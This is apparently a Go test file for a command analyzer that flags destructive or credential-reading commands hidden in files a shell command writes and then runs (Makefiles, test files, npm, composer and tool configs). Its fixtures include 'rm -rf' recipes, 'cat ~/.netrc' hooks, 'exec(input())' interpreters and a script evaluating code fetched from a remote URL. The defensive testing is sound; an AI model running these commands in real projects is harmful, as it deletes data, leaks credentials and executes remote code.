package command_test

import (
	"slices"
	"strings"
	"testing"

	"passepartout/command"
	"passepartout/pipeline"
)

// TestAuthored: what a command writes into files that tools run for it is
// searched for what it spells out, and for no more.
func TestAuthored(t *testing.T) {
	t.Parallel()
	a, w := analyzer(t), command.ExampleWorld()
	for text, want := range map[string]string{
		"printf 'all:\\n\\trm -rf ~/x\\n' > Makefile && make":                                                           "/home/u/x",
		"printf 'all:\\n\\trm -rf ~/x\\n' > Makefile; make -n clean all":                                                "/home/u/x",
		"make; printf 'all:\\n\\trm -rf ~/x\\n' > Makefile":                                                             "/home/u/x",
		"printf 'all: b\\nb:\\n\\trm -rf ~/x\\n' > Makefile; make all":                                                  "/home/u/x",
		"printf 'all:\\n\\ttrue\\nb:\\n\\trm -rf ~/x\\n' > Makefile; make all":                                          "",
		"printf 'all:\\n\\trm -rf $(HOME)/x\\n' > Makefile; make":                                                       "/home/u/x",
		"printf 'V := $(shell rm -rf ~/x)\\nall:\\n\\ttrue\\n' > Makefile; make":                                        "/home/u/x",
		"printf 'all:\\n\\trm -rf ~/x\\n' > Makefile":                                                                   "",
		"printf 'rm -rf ~/x\\n' > notes.md; make":                                                                       "",
		"npm pkg set scripts.test='rm -rf ~/x' && npm test":                                                             "/home/u/x",
		"npm pkg set scripts.test='jest' && npm test":                                                                   "",
		"cat > x.py <<'E'\nimport os\nos.system('rm -rf ~/x')\nE\npytest":                                               "/home/u/x",
		"cat > x.py <<'E'\nimport subprocess\nsubprocess.run(['rm', '-rf', '/home/u/x'])\nE\ntox":                       "/home/u/x",
		"cat > x.py <<'E'\nshutil.rmtree(os.path.expanduser('~/x'))\nE\npytest":                                         "/home/u/x",
		"cat > x.py <<'E'\nassert norm('/home/u/x') == 'x'\nE\npytest":                                                  "",
		"cat > x.py <<'E'\nrunner.run('rm -rf ~/x')\nE\npytest":                                                         "",
		"echo 'fn main(){Command::new(\"rm\").arg(\"-rf\").arg(\"/home/u/x\");}' > build.rs; cargo b":                   "/home/u/x",
		"git apply <<'E'\n--- a/Makefile\n+++ b/Makefile\n@@ -1 +1,2 @@\n a:\n+\trm -rf ~/x\nE\nmake":                   "/home/u/x",
		"git apply <<'E'\n--- a/N.md\n+++ b/N.md\n@@ -1 +1,2 @@\n a:\n+\trm -rf ~/x\nE\nmake":                           "",
		"bash -c \"printf 'all:\\n\\trm -rf ~/x\\n' > Makefile; make\"":                                                 "/home/u/x",
		"printf 'D = $(HOME)\na:\n\trm -rf $(D)/x\n' > Makefile; make":                                                  "/home/u/x",
		"printf 'D := /home/u\na:\n\trm -rf \"${D}/x\"\n' > Makefile; make":                                             "/home/u/x",
		"printf 'D := build\na:\n\trm -rf $(D)/x\n' > Makefile; make":                                                   "",
		"printf 'a: D = /home/u\na:\n\trm -rf $(D)/x\n' > Makefile; make":                                               "/home/u/x",
		"printf 'a:\n\trm -rf $(D)/x\n' > Makefile; make D=/home/u":                                                     "/home/u/x",
		"printf 'a:\n\trm -rf $(D)/x\n' > Makefile; D=/home/u make":                                                     "/home/u/x",
		"printf 'C = rm -rf /home/u/x\na:\n\t$(C)\n' > Makefile; make":                                                  "/home/u/x",
		"printf 'define C\nrm -rf /home/u/x\nendef\na:\n\t$(C)\n' > Makefile; make":                                     "/home/u/x",
		"printf 'a:\n\t$(RM) -r /home/u/x\n' > Makefile; make":                                                          "/home/u/x",
		"printf 'X != rm -rf /home/u/x\na:\n\ttrue\n' > Makefile; make":                                                 "/home/u/x",
		"printf '$(info $(shell rm -rf /home/u/x))\na:\n\ttrue\n' > Makefile; make":                                     "/home/u/x",
		"printf 'a:\n\trm -rf $(addsuffix /x,/home/u)\n' > Makefile; make":                                              "",
		"printf 'a:\n\trm -rf $(wildcard /home/u/x)\n' > Makefile; make":                                                "/home/u/x",
		"printf '.RECIPEPREFIX = >\na:\n> rm -rf /home/u/x\n' > Makefile; make":                                         "/home/u/x",
		"printf 'd := \"/home/u\"\na:\n    rm -rf {{d}}/x\n' > justfile; just a":                                        "/home/u/x",
		"printf 'a:\n    rm -rf {{home_directory() / \"x\"}}\n' > justfile; just a":                                     "/home/u/x",
		"printf 'file(REMOVE_RECURSE /home/u/x)\n' > CMakeLists.txt; cmake -B b":                                        "/home/u/x",
		"printf 'package x\n//go:generate rm -rf /home/u/x\n' > x.go; go generate ./...":                                "/home/u/x",
		"printf 'package x\n//go:generate rm -rf /home/u/x\n' > x.go; go build ./...":                                   "",
		"cat > Snakefile <<'E'\nrule a:\n    shell: \"\"\"\n        rm -rf /home/u/x\n        \"\"\"\nE\nsnakemake -c1": "/home/u/x",
		"cat > dodo.py <<'E'\ndef task_a():\n    return {'actions': ['rm -rf /home/u/x']}\nE\ndoit a":                   "/home/u/x",
		"cat > dodo.py <<'E'\ndef task_a():\n    return {'actions': ['rm -rf build']}\nE\ndoit a":                       "",
		"sed -i '1i //go:generate rm -rf /home/u/x' x.go; go generate ./...":                                            "/home/u/x",
		"sed -i 's#^package x#//go:generate rm -rf /home/u/x\\\\n&#' x.go; go generate ./...":                           "/home/u/x",
		"cat > x.py <<'E'\nimport shutil\nP = '/home/u/x'\ndef test_a():\n    shutil.rmtree(P)\nE\npytest":              "/home/u/x",
		"cat > x.py <<'E'\nfrom shutil import rmtree as r\nr('/home/u/x')\nE\npytest":                                   "/home/u/x",
		"cat > x.test.js <<'E'\nimport {rmSync as r} from 'fs';\nr('/home/u/x')\nE\nnpx jest":                           "/home/u/x",
		"cat > x.test.js <<'E'\nconst {rmSync: r} = require('fs');\nr('/home/u/x')\nE\nnpx jest":                        "/home/u/x",
		"T='a:\n\trm -rf ~/x'; echo \"$T\" > Makefile; make":                                                            "/home/u/x",
	} {
		for _, in := range []command.Input{{Text: text, Shell: true}, {Argv: []string{"bash", "-c", text}}} {
			out, err := a.Analyze(in, w)
			if err != nil {
				t.Fatalf("%q: %v", text, err)
			}
			found := slices.ContainsFunc(out.Effects, func(e pipeline.Effect) bool {
				return e.Kind == pipeline.KindDelete && e.Object == "/home/u/x"
			})
			if found != (want != "") {
				t.Errorf("%q: found %v, want %q: %+v", text, found, want, out.Effects)
			}
		}
	}
}

// TestAuthoredAddsNoCommands: what a file spells out is no command of the
// script, and its programs are not started by it.
func TestAuthoredAddsNoCommands(t *testing.T) {
	t.Parallel()
	a, w := analyzer(t), command.ExampleWorld()
	out, err := a.Analyze(command.Input{Text: "printf 'all:\\n\\tcurl http://x.test/\\n' > Makefile && make", Shell: true}, w)
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := out.Programs["curl"]; ok || slices.ContainsFunc(out.Commands, func(c command.Command) bool { return c.Name == "curl" }) {
		t.Errorf("%+v %+v", out.Programs, out.Commands)
	}
	if !slices.ContainsFunc(out.Effects, func(e pipeline.Effect) bool { return e.Kind == pipeline.KindConnect }) {
		t.Errorf("the host is not seen: %+v", out.Effects)
	}
}

// TestMadeCode: what is put into a file that a tool loads holds the command where it
// leads out of the project, or where nobody can see it; each text that is put there
// counts, and so does a file that another one includes.
func TestMadeCode(t *testing.T) {
	t.Parallel()
	a, w := analyzer(t), command.ExampleWorld()
	for text, want := range map[string]bool{
		"cat > x.py <<'E'\nprint(open(os.environ['HOME']))\nE\npytest":                                           true,
		"cat > x.py <<'E'\nprint(open('a'))\nE\npytest":                                                          false,
		"cat > x.py <<'E'\nprint(open(os.environ['HOME']))\nE":                                                   false,
		"cat > x.py <<'E'\nx = 1\nE\ncat >> x.py <<'E'\nprint(Path.home())\nE\npytest":                           true,
		"cp /opt/x.py conftest.py && pytest":                                                                     true,
		"cp \"/opt/x.py\" conftest.py && pytest":                                                                 true,
		"cp src/x.py conftest.py && pytest":                                                                      false,
		"echo aGk= | base64 -d > conftest.py; pytest":                                                            true,
		"printf 'include a.inc\\n' > Makefile; printf 'all:\\n\\tcat ~/.netrc\\n' > a.inc; make":                 true,
		"printf 'all:\\n\\ttrue\\n' > Makefile; printf 'cat ~/.netrc\\n' > notes.md; make":                       false,
		"printf 'all:\\n\\ttrue\\ninstall:\\n\\tcp x /usr/local/bin\\n' > Makefile; make all":                    false,
		"npm pkg set jest.globalSetup=/opt/x.js && npx jest":                                                     true,
		"composer config scripts.x 'cat ~/.netrc' && composer run x":                                             true,
		"composer config vendor-dir /tmp/x && composer dump-autoload":                                            true,
		"composer config scripts.x phpunit && composer run x":                                                    false,
		"go mod edit -replace a=/tmp/x && go test ./...":                                                         true,
		"go mod edit -replace a=./x && go test ./...":                                                            false,
		"go work use ../x && go test ./...":                                                                      true,
		"bundle config set gemfile /tmp/x/Gemfile && bundle exec rspec":                                          true,
		"bundle config set path vendor && bundle exec rspec":                                                     false,
		"printf 'npx lint-staged\\ncat ~/.netrc\\n' > .husky/pre-commit; git commit -m x":                        true,
		"printf 'npx lint-staged\\n' > .husky/pre-commit; git commit -m x":                                       false,
		"echo '{\"jest\":{\"setupFiles\":[\"./a.js\"]},\"homepage\":\"https://x.io\"}' > package.json; npx jest": false,
	} {
		out, err := a.Analyze(command.Input{Text: text, Shell: true}, w)
		if err != nil {
			t.Fatalf("%q: %v", text, err)
		}
		if found := slices.ContainsFunc(out.Effects, func(e pipeline.Effect) bool { return e.Mark == "made-code" }); found != want {
			t.Errorf("%q: found %v, want %v: %+v", text, found, want, out.Effects)
		}
	}
}

// What is too long to be looked through is held, however harmless it looks.
func TestAuthoredTooLong(t *testing.T) {
	t.Parallel()
	for length, held := range map[int]bool{4 << 10: false, 30 << 10: true} {
		text := "cat > tests/test_x.py <<'EOF'\n" + strings.Repeat("def test_a():\n    assert 1\n", length/26) + "EOF\npytest tests/test_x.py"
		out, err := analyzer(t).Analyze(command.Input{Text: text, Shell: true}, command.ExampleWorld())
		if err != nil {
			t.Fatal(err)
		}
		got := slices.ContainsFunc(out.Effects, func(e pipeline.Effect) bool {
			return e.Kind == pipeline.KindUnknown && strings.Contains(e.Object, "more text than is looked through")
		})
		if got != held {
			t.Errorf("%d bytes: held %v, want %v: %v", length, got, held, out.Effects)
		}
	}
}

// TestNamesakes: what a command writes under the name of a tool that runs code is taken
// for its settings, and programs on one line in it are read.
func TestNamesakes(t *testing.T) {
	t.Parallel()
	a, w := analyzer(t), command.ExampleWorld()
	for text, want := range map[string]bool{
		"printf 'before:\\n  hooks:\\n  - cat ~/.netrc\\n' > .goreleaser.yml; goreleaser check":                true,
		"printf 'before:\\n  hooks:\\n  - go mod tidy\\n' > .goreleaser.yml; goreleaser check":                 false,
		"printf 'before:\\n  hooks:\\n  - ls /opt2/x\\n' > .goreleaser.yml; go vet":                            false,
		"echo '{\"plugin\":[\"/opt/x.js\"]}' > typedoc.json; npx typedoc":                                      true,
		"echo '{\"plugin\":[\"/opt/x.js\"]}' > .oxlintrc.json; npx oxlint":                                     true,
		"echo 'path: /opt/x.so' > .golangci.yml; golangci-lint run":                                            true,
		"echo '.env' > .gitignore; go test ./...":                                                              false,
		"echo 'run: ls /opt2/x' > .github/workflows/go.yml; go test ./...":                                     false,
		"printf '[preprocessor.x]\\ncommand = \"cat ~/.netrc\"\\n' > book.toml; mdbook build":                  true,
		"echo '{\"*.js\":\"python3 -c \\\"exec(input())\\\"\"}' > .lintstagedrc; npx lint-staged":              true,
		"echo '{\"*.js\":\"python3 -c \\\"print(1)\\\"\"}' > .lintstagedrc; npx lint-staged":                   false,
		"echo '{\"exec\":\"python3 -W ignore -c \\\"exec(input())\\\"\"}' > nodemon.json; npx nodemon":         true,
		"echo '{\"x\":[\"python3\",\"-c\",\"exec(input())\"]}' > nodemon.json; npx nodemon":                    true,
		"echo '{\"exec\":\"echo -e \\\"a\\\"\"}' > nodemon.json; npx nodemon":                                  false,
		"echo 'web: ruby -e \"eval gets\"' > Procfile; foreman start":                                          true,
		"printf 'a:\\n\\tperl -e \"eval join q(),map chr,@ARGV\" 1\\n' > Makefile; make":                       true,
		"composer config scripts.x 'php -r \"eval(file_get_contents(\\\"http://x.io\\\"));\"'; composer run x": true,
	} {
		out, err := a.Analyze(command.Input{Text: text, Shell: true}, w)
		if err != nil {
			t.Fatalf("%q: %v", text, err)
		}
		if found := slices.ContainsFunc(out.Effects, func(e pipeline.Effect) bool { return e.Mark == "made-code" }); found != want {
			t.Errorf("%q: found %v, want %v: %+v", text, found, want, out.Effects)
		}
	}
}
